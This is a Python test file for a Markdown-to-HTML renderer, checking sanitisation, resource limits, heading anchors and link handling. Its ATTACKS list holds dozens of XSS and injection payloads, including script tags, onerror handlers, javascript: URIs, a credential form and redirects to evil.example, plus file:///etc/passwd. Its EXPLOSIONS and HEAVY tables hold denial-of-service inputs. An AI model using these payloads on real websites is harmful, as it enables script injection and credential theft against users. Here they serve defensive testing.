import re
import resource
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coafi.artifacts.generate import generate
from coafi.artifacts.markdown import TooCostly, render
from coafi.artifacts.model import ArtifactKind, GeneratorConfig
from coafi.artifacts.page import STYLE
from coafi.documents.kinds import FileKind
from tests.coafi.documents.samples import check

CONFIG = GeneratorConfig()
SAFE_TAGS = frozenset(
    re.findall(
        r"[\w-]+",
        "a abbr b blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption "
        "figure footer h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub "
        "summary sup table tbody td tfoot th thead tr u ul var wbr html head meta title style body header "
        "main nav ",
    )
)
SAFE_ATTRIBUTES = frozenset(
    re.findall(
        r"[\w-]+",
        "alt aria-label charset class colspan content data-coafi data-long height href http-equiv id lang loading "
        "name open rel role rowspan scope src start tabindex title width ",
    )
)
VOID = frozenset({"br", "col", "hr", "img", "meta", "wbr"})
MARKS = {"place": "p", "origin": "footer", "link": "a", "image": "img"}


class Page(HTMLParser):
    """Reads a page as strictly as we wrote it: every tag is known and closed in order."""

    attributes = SAFE_ATTRIBUTES

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note the tag."""
        assert tag in SAFE_TAGS, tag
        assert {name for name, _ in attrs} <= self.attributes, attrs
        assert len(dict(attrs)) == len(attrs), attrs
        self.seen.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        """Close it."""
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        """There are none."""
        raise AssertionError(data)


def page_of(text: str) -> str:
    """The whole page of a Markdown text."""
    generation = generate(FileKind.MARKDOWN, text.encode(), check("a.md", text), CONFIG)
    (page,) = (artifact for artifact in generation.artifacts if artifact.kind is ArtifactKind.PAGE)
    return page.content.decode()


def assert_harmless(html: str) -> None:
    page = Page(html)
    for tag, attributes in page.seen:
        href = attributes.get("href")
        if href is not None:
            assert tag == "a"
            scheme = re.match(r"[\s\x00-\x20]*([a-zA-Z][a-zA-Z0-9+.-]*):", href)
            assert scheme is None or scheme.group(1).lower() in ("http", "https", "mailto"), href
        if tag == "img":
            source = re.sub(r"[\x00-\x20]", "", attributes["src"] or "").replace("\\", "/")
            assert not re.match(r"[a-zA-Z][a-zA-Z0-9+.-]*:|//", source), source
            assert attributes["loading"] == "lazy"
            assert attributes["alt"] is not None
        mark = attributes.get("data-coafi")
        assert mark is None or MARKS[mark] == tag, mark
    marks = [attributes["data-coafi"] for _, attributes in page.seen if "data-coafi" in attributes]
    assert (marks.count("place"), marks.count("origin")) == (1, 1)
    ids = [attributes["id"] for _, attributes in page.seen if attributes.get("id", "").startswith("coafi-")]  # type: ignore[union-attr]  # ids have values
    assert ids == ["coafi-content", "coafi-origin"]
    assert html.count("<style>") == 1
    assert STYLE in html


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](x)',
    '![x](x" onerror="alert(1))',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='https://x' onclick='alert(1)'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<td style='text-align:right;background:url(x)'>x</td>",
    "<table><tr><td style='text-align:url(x)'>x</td></tr></table>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x.swf'></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)></video><audio src=x autoplay>",
    "</main></div></body></html><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<textarea></textarea><title></title><script>alert(1)</script>",
    "<div><b><i>never closed",
    "<div id='coafi-content' class='skip page'>x</div>",
    "<a id='coafi-content'>x</a>",
    "<h2 id=x onmouseover=alert(1)>x</h2>",
    "## x {#coafi-content .skip onclick=alert(1)}",
    "## coafi-content",
    "# <img src=x onerror=alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    '```json" onclick="alert(1)\nx\n```',
    "[^x<script>]\n\n[^x<script>]: y",
    'https://x.example/"onmouseover=alert(1)//',
    "https://x.example/<script>alert(1)</script>",
    "`https://x.example` <https://y.example> [https://z.example](https://z.example)",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<ruby><rt>x</ruby><select><option>x",
    '<footer id="coafi-origin" data-coafi="origin"></footer>',
    '<p class="place" data-coafi="place"></p>',
    '<a data-coafi="link" href="javascript:alert(1)">x</a>',
    '<a title=\'<a data-coafi="link" href="x">\' href="y.md">x</a>',
    '<a title="<a data-coafi=" href="y.md">x</a>',
    '![<img data-coafi="image" src="](a.png "<footer id=\'coafi-origin\' data-coafi=")',
    '`<footer id="coafi-origin" data-coafi="origin"></footer>`',
    "![x](//evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    "![x](\\\\evil.example/x.png)",
    "<img src='/\t/evil.example/x.png'>",
    "<img src=' \n//evil.example/x.png'>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](file:///etc/passwd)",
    "![x](blob:https://x.example/1)",
    "<img src=x srcset='https://evil.example/x.png 2x' style='x' width=99999 height='1\"'>",
    "[![x](https://evil.example/x.png)](y.md)",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```python\n'<img src=x onerror=alert(1)>' # <b>\n```",
    "<pre><code class='language-python'><b>x</b></code></pre>",
    "<pre><code class='language-python x'>def f(): pass</code>y</pre>",
    "---\ntitle: '</title><script>alert(1)</script>'\n---\n# x",
    "---\ntitle: x\nlang: '\"><script>'\ntags: ['<b>', {'<i>': '\"'}]\nstatus: '<u>'\n'<key>': '<value>'\n---\n",
    '---\ntitle: x\nauthor: "\\u2028\\u202e\\x85"\n---\n\u202etxt.exe',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_markdown_is_neutralised(attack: str) -> None:
    assert_harmless(page_of(attack))
    if attack.startswith("---"):  # Front matter counts only at the top.
        return
    assert_harmless(page_of(f"# Title\n\n- item\n\n  > {attack}\n\n| a |\n|---|\n| {attack} |\n\n## Two\n\n## Three\n"))


CUT = [attack[start : start + 9] for attack in ATTACKS for start in range(0, len(attack), 7)]
PIECES = st.sampled_from([*CUT, "\n\n", "> ", "- ", "|", "#"])


@given(st.lists(PIECES, max_size=25).map("".join))
def test_any_mixture_of_attacks_is_neutralised(text: str) -> None:
    if check("a.md", text).verdict == "valid":
        assert_harmless(page_of(text))


def test_text_that_only_looks_like_html_survives() -> None:
    html = page_of("Use `<script>` when 1 < 2 && 3 > 2.")
    assert "<code>&lt;script&gt;</code> when 1 &lt; 2 &amp;&amp; 3 &gt; 2." in html


def test_the_page_can_load_and_run_nothing() -> None:
    html = page_of("![logo](https://tracker.example/pixel.png?a&b) ![local](a.png)")
    assert "default-src 'none'; style-src 'sha256-" in html
    assert html.count("<img") == html.count('<img data-coafi="image" src="a.png" alt="local" loading="lazy">') == 1
    assert (
        '<a class="image" href="https://tracker.example/pixel.png?a&amp;b" rel="noopener noreferrer">'
        'Image: logo <span class="from">(tracker.example)</span></a>' in html
    )


@pytest.mark.parametrize(
    ("text", "title", "expected", "headings"),
    [
        ("# T\n\nx", "T", "<p>x</p>", []),
        ("#  t \n\nx", "T", "<p>x</p>", []),
        ("# Other\n\nx", "T", '<h2 id="other">', [2]),
        ("# A\n\n# B\n\n## C", "", '<h2 id="b">', [2, 3]),
        ("## A\n\n# B", "B", '<h2 id="a">', [2, 2]),
        ("## A\n\n#### B\n\n##### C\n\n### D\n\n## E", "T", '<h3 id="b">', [2, 3, 4, 3, 2]),
        ("x\n\n# A", "", '<h2 id="a">', [2]),
        ("## A", "", '<h2 id="a">', [2]),
        ("###### A\n\n# B", "T", '<h2 id="a">', [2, 2]),
        (
            "# A\n\n# B\n\n" + "".join(f"{'#' * n} x\n\n" for n in range(2, 7)),
            "T",
            '<h6 id="x-4">',
            [2, 2, 3, 4, 5, 6, 6],
        ),
        ("", "", "", []),
    ],
)
def test_headings_have_one_title_above_them(text: str, title: str, expected: str, headings: list[int]) -> None:
    rendered = render(text, title, CONFIG)
    assert expected in rendered.html
    assert [entry.level for entry in rendered.headings] == headings
    assert "<h1" not in rendered.html


@pytest.mark.parametrize(
    ("text", "title"), [("# A *b* `c`", "A b c"), ("no heading", "Untitled document"), ("![logo](x)\n\n# A", "A")]
)
def test_the_title_comes_from_the_first_heading(text: str, title: str) -> None:
    assert render(text, "", CONFIG).title == title


def test_anchors_are_those_of_github_and_unique() -> None:
    text = (
        "## A b, c!\n\n## A b, c!\n\n## Überblick\n\n## ---\n\n## coafi-content\n\n<a id='x'></a>\n\n## X\n\n## A `b`"
    )
    anchors = [entry.anchor for entry in render(text, "T", CONFIG).headings]
    assert anchors == ["a-b-c", "a-b-c-1", "überblick", "---", "section-coafi-content", "x-1", "a-b"]


def test_headings_within_raw_html_do_not_confuse() -> None:
    rendered = render("<h2><div><h3>inner</h3></div></h2>\n\n<h2>a</h2>\n\n## b", "T", CONFIG)
    assert [entry.anchor for entry in rendered.headings][-2:] == ["a", "b"]


def test_github_markdown_is_understood() -> None:
    html = render(
        "> [!NOTE]\n> n\n\n- [x] a\n- [ ] b\n\n~~c~~\n\n|l|r|c|\n|:-|-:|:-:|\n|1|2|3|\n\nd[^1]\n\n[^1]: e\n\n"
        "```json\n{}\n```\n\nsee https://x.example/a_(b)?c=1&d=2. <b>raw</b> <sub>2</sub>\n",
        "T",
        CONFIG,
    ).html
    for part in (
        '<blockquote class="markdown-alert-note">',
        '<span class="task" role="img" aria-label="done">☑</span>',
        '<span class="task" role="img" aria-label="to do">☐</span>',
        "<del>c</del>",
        '<div class="scroll" role="group" aria-label="Table 1" tabindex="0"><table>',
        "<th>l</th>",
        '<th class="right">r</th>',
        '<td class="center">3</td>',
        '<sup class="footnote-reference">',
        '<div class="footnote-definition" id="1">',
        '<pre tabindex="0"><code class="language-json">',
        '<a href="https://x.example/a_(b)?c=1&amp;d=2" rel="noopener noreferrer">',
        "</a>. <b>raw</b> <sub>2</sub>",
    ):
        assert part in html, part


EXPLOSIONS = {
    "table": "|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n" + "x\n" * 5000,
    "quotes": ">" * 50_000 + " x",
    "lists": "- " * 50_000 + "x",
    "divs": "<div>" * 50_000,
    "reopened bold": "<div><p>" + "".join(f"<b i={n}>" for n in range(4000)) + "</p>" + "<p>x</p>" * 4000,
    "bold with angles": "<div><p>" + "".join(f"<b <{n}>" for n in range(4000)) + "</p>" + "<p>x</p>" * 4000,
    "bold in quotes": "> <div><p>" + "".join(f"<b\n> i={n}>" for n in range(4000)) + "</p>" + "<p>x</p>" * 4000,
    "bold with quotes": "<div><p>" + "".join(f"<b t='<{n}'>" for n in range(4000)) + "</p>" + "<p>x</p>" * 4000,
    "attributes": "<div " + "".join(f"a{n} " for n in range(1_000_000)) + ">",
    "raw tables": "<div>" + "<table>" * 40_000,
    "ampersands": "a & b " * 200_000,
    "distant ampersands": ("&" + "x" * 200) * 30_000,
    "symbols": "Ã¼\n" * 400_000,
    "distant symbols": ("§" + "x" * 200) * 30_000,
    "spaces in a code block": "```\n" + "\u00a0 x\n" * 100_000 + "```\n",
    "symbols between tags that are ignored": ("§" * 50 + "</q>") * 3_000,
    "hidden depth": ("<div><table></div></table>" * 2000) + ">" * 9_000 + " x",
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", sorted(EXPLOSIONS))
def test_what_would_explode_is_refused_before_it_does(name: str) -> None:
    with pytest.raises(TooCostly):
        render(EXPLOSIONS[name], "T", CONFIG)


HEAVY = {
    "emphasis": "*a **b " * 100_000 + "x* y**" * 100_000,
    "brackets": "[" * 1_000_000,
    "links": "[a](" * 200_000,
    "backticks": "".join("`" * n + " " for n in range(2_000)),
    "comments": "<!--" * 100_000,
    "entities": "&lt" * 500_000 + "&" * 50_000,
    "footnotes": "".join(f"[^{n}]: x [^{n + 1}]\n\n" for n in range(20_000)),
    "references": "[a]: /" + "u" * 1000 + "\n\n" + "[a] " * 50_000,
    "headings": "# a\n\n" * 20_000,
    "addresses": "https://x." * 100_000,
    "many tables": "|a|\n|-|\n|b|\n\n" * 20_000,
    "small deep": ">" * 300 + " x\n\n" + "<b>" * 100,
    "plain formatting": "<b>x</b> <i>y</i>\n\n" * 10_000,
    "images": "![a](b.png)\n" * 60_000,
    "relative links": "[a](../b.md) " * 80_000,
    "one line": "word " * 200_000,
    "one word": "x" * 1_000_000,
    "many blocks": "```python\nx = 1\n```\n\n" * 30_000,
    "one block": "```python\n" + "x = 'a' # b\n" * 80_000 + "```\n",
    "hostile HTML code": ("```html\n" + ("<!--" * 99 + "\n") * 20 + "```\n\n") * 40,
    "hostile Go code": ("```go\n" + ("/* x" * 99 + "\n") * 20 + "```\n\n") * 40,
    "unknown code": "```nope\n" + "<&>" * 300_000 + "\n```\n",
    "one heading": "# " + "*a*b" * 400_000,
    "punctuation in a heading": "# " + "!" * 5_000_000,
    "symbols in many paragraphs": "§ x\n\n" * 100_000,
    "cells": "|a|\n|-|\n" + "|x|\n" * 50_000,
}


@pytest.mark.soak
@pytest.mark.timeout(180)
@pytest.mark.parametrize("name", sorted(HEAVY))
def test_heavy_markdown_takes_bounded_time_and_memory(name: str) -> None:
    try:
        rendered = render(HEAVY[name], "T", CONFIG)
    except TooCostly:
        pass
    else:
        assert len(rendered.html) <= CONFIG.max_page_bytes
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss < 1_500 * 1024


def test_not_every_copy_is_refused_but_the_rest_stays_small() -> None:
    text = "<div><p>" + "".join(f"<b i={n}>" for n in range(200)) + "</p>" + "<p>x</p>" * 1_000
    with pytest.raises(TooCostly, match="would become"):
        render(text, "T", GeneratorConfig(max_ratio=2))


def test_table_cells_keep_spans_and_scope() -> None:
    html = render(
        "<table><tr><th scope=row colspan=2 rowspan=0>a</th><td scope=x>b</td></tr></table>", "T", CONFIG
    ).html
    assert '<th scope="row" colspan="2">a</th><td>b</td>' in html


def test_a_document_full_of_ordinary_html_is_rendered() -> None:
    rows = "".join(f"<tr><td><b>{n}</b></td><td><code>x{n}</code></td></tr>\n" for n in range(400))
    assert "<b>399</b>" in render(f"<table>\n{rows}</table>\n\n" + "text\n\n" * 500, "T", CONFIG).html


def test_a_refused_page_is_skipped_with_its_reason_and_the_metadata_are_kept() -> None:
    text = "---\ntitle: Big\n---\n" + EXPLOSIONS["table"]
    generation = generate(FileKind.MARKDOWN, text.encode(), check("a.md", text), CONFIG)
    assert [artifact.kind for artifact in generation.artifacts] == ["metadata"]
    assert b'"title":"Big"' in generation.artifacts[0].content
    (skipped,) = generation.skipped
    assert skipped.kind == "page"
    assert "would become a page" in skipped.reason


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[a](b.md#c)", '<a data-coafi="link" href="b.md#c">a</a>'),
        ("[a](/docs/b.md 'T')", '<a data-coafi="link" href="/docs/b.md" title="T">a</a>'),
        ("[a](../)", '<a data-coafi="link" href="../">a</a>'),
        ("[a](<b c.md>)", '<a data-coafi="link" href="b%20c.md">a</a>'),
        ("<a href='b\\c.md'>a</a>", '<a data-coafi="link" href="b/c.md">a</a>'),
        ("<a id='x' href='b'>a</a>", '<a data-coafi="link" href="b" id="x">a</a>'),
        ("<a id='x'>a</a>", '<a id="x" rel="noopener noreferrer">a</a>'),
        ("[a](#b)", '<a href="#b" rel="noopener noreferrer">a</a>'),
        ("[a](?b)", '<a href="?b" rel="noopener noreferrer">a</a>'),
        ("[a](//b.example/c)", '<a href="//b.example/c" rel="noopener noreferrer">a</a>'),
        ("[a](https://b.example)", '<a href="https://b.example" rel="noopener noreferrer">a</a>'),
        ("![a](/b.png 'T')", '<img data-coafi="image" src="/b.png" alt="a" title="T" loading="lazy">'),
        (
            "<img src=b.png width=20 height=30>",
            '<img data-coafi="image" src="b.png" alt="" width="20" height="30" loading="lazy">',
        ),
        (f"[a]({'b' * 4097})", "<a>a</a>"),
        (f"![a]({'b' * 4097})", '<span class="image">Image: a</span>'),
        ("![](x:y)", '<span class="image">Image</span>'),
        ("![a](mailto:b@c)", '<span class="image">Image: a</span>'),
        (
            "[![<b>](//c.example/d)](e.md)",
            '<a data-coafi="link" href="e.md"><span class="image">Image: &lt;b&gt; '
            '<span class="from">(c.example)</span></span></a>',
        ),
    ],
)
def test_links_and_images_say_where_they_lead(text: str, expected: str) -> None:
    assert render(text, "T", CONFIG).html.removeprefix("<p>").removesuffix("</p>") == expected


def test_code_has_colours_where_its_language_is_known() -> None:
    html = render(
        "```python\ndef f(): return '<' # &\n```\n\n``` Nonsense\ndef <\n```\n\n    indented <", "T", CONFIG
    ).html
    assert '<pre tabindex="0"><code class="language-python"><span class="k">def ' in html
    assert '<span class="s">\'&lt;\' </span><span class="c"># &amp;\n</span></code></pre>' in html
    assert '<code class="language-Nonsense">def &lt;\n</code>' in html
    assert '<pre tabindex="0"><code>indented &lt;' in html


def test_a_page_has_colours_up_to_a_limit() -> None:
    text = "```json\n[1]\n```\n\n" * 4
    assert render(text, "T", GeneratorConfig(max_highlighted=11)).html.count('class="m"') == 2
    assert 'class="m"' not in render(text, "T", GeneratorConfig(max_highlighted=0)).html


def test_code_in_a_heading_is_part_of_it() -> None:
    rendered = render("<h2>a <pre><code class='language-json'>[1]</code></pre></h2>", "T", CONFIG)
    assert [entry.text for entry in rendered.headings] == ["a [1]"]


def test_long_cells_are_not_squeezed() -> None:
    html = render(f"|a|b|\n|-:|-|\n|{'x ' * 30}|y|\n|{'z' * 40}|<b>{'w' * 41}</b>|\n", "T", CONFIG).html
    assert html.count("data-long") == 2
    assert '<td data-long="" class="right">x x' in html
    assert '<td data-long=""><b>www' in html
